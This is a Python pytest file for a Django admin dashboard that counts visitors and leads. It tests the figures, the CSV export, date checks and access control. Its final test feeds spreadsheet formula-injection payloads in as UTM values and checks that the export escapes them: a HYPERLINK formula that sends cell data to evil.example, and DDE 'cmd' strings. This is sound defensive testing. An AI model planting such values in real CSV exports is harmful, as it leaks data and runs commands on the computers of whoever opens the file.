"""The comprehensive dashboard: real figures, charts beside tables, CSV, access."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from interactions.models import UserSession
from leads import selectors
from leads.models import Lead

URL = "/admin/comprehensive/dashboard/"


@pytest.fixture
def staff_client(client, demo):
    client.login(username="admin", password="admin")
    return client


def test_the_dashboard_shows_the_demo_figures_counted_independently(staff_client):
    today = timezone.localdate()
    start = today - timezone.timedelta(days=29)
    response = staff_client.get(URL)
    assert response.status_code == 200
    page = response.content.decode()
    period = selectors.period_for_days(start, today)
    sessions = UserSession.objects.filter(created_at__gte=period.start, created_at__lt=period.end).count()
    leads = Lead.objects.filter(created_at__gte=period.start, created_at__lt=period.end).count()
    kpis = {label: value for label, value, _, _ in response.context["kpis"]}
    assert (kpis["Visitors"], kpis["Leads"]) == (sessions, leads)
    assert sessions > 100 and leads > 20
    for table in ("kpis", "tools", "funnel", "score-bands", "levels", "attribution", "per-day"):
        assert f'id="{table}"' in page
    assert page.count("<svg") >= 6
    assert "botox-spring" in page
    # The date pickers show the period (an <input type="date"> takes only YYYY-MM-DD).
    assert f'value="{start.isoformat()}"' in page and f'value="{today.isoformat()}"' in page


def test_the_csv_has_the_same_numbers_as_the_page(staff_client):
    page = staff_client.get(URL)
    response = staff_client.get(URL, {"format": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    figures = {row[0]: row[1] for row in rows if len(row) == 4 and row[0] in ("Visitors", "Leads")}
    kpis = {label: value for label, value, _, _ in page.context["kpis"]}
    assert figures == {"Visitors": str(kpis["Visitors"]), "Leads": str(kpis["Leads"])}
    assert any(row[:3] == ["google", "cpc", "botox-spring"] for row in rows)


def test_a_chosen_period_is_used_and_bad_dates_are_explained(staff_client):
    response = staff_client.get(URL, {"start": "2020-01-01", "end": "2020-01-31"})
    assert response.status_code == 200
    assert {label: v for label, v, _, _ in response.context["kpis"]}["Visitors"] == 0
    response = staff_client.get(URL, {"start": "2026-02-01", "end": "2026-01-01"})
    assert response.status_code == 400
    assert "must not be after" in response.content.decode()
    assert staff_client.get(URL, {"start": "yesterday"}).status_code == 400


def test_visitors_and_staff_without_permission_are_kept_out(client, demo):
    assert client.get(URL).status_code == 302  # to the login page
    User = get_user_model()
    User.objects.create_user("temp", password="pw-12345-x", is_staff=True)
    client.login(username="temp", password="pw-12345-x")
    assert client.get(URL).status_code == 403


def test_the_admin_home_links_the_dashboard(staff_client):
    assert reverse("admin:comprehensive_dashboard") in staff_client.get("/admin/").content.decode()


def test_the_dashboard_needs_a_fixed_number_of_queries(staff_client, django_assert_max_num_queries):
    # The first read of a day also rolls up the days it has not seen: one INSERT ...
    # SELECT a month for each daily count, so a few more, however many rows.
    with django_assert_max_num_queries(40):
        staff_client.get(URL)
    with django_assert_max_num_queries(25):
        staff_client.get(URL)


def test_utm_values_a_visitor_chose_reach_the_csv_as_text_not_formulas(staff_client):
    formulas = {"utm_source": '=HYPERLINK("http://evil.example/?x="&A1)', "utm_medium": "@SUM(1+1)*cmd|' /C calc'!A0",
                "utm_campaign": "+cmd|' /C calc'!A0"}
    Client().get("/", formulas)
    rows = list(csv.reader(io.StringIO(staff_client.get(URL, {"format": "csv"}).content.decode())))
    row = next(row for row in rows if row and "evil.example" in row[0])
    assert row[:3] == ["'" + formulas["utm_source"], "'" + formulas["utm_medium"], "'" + formulas["utm_campaign"]]
    assert not any(cell.startswith(("=", "@", "+")) and not cell.lstrip("+-").replace(".", "").isdigit()
                   for row in rows for cell in row)
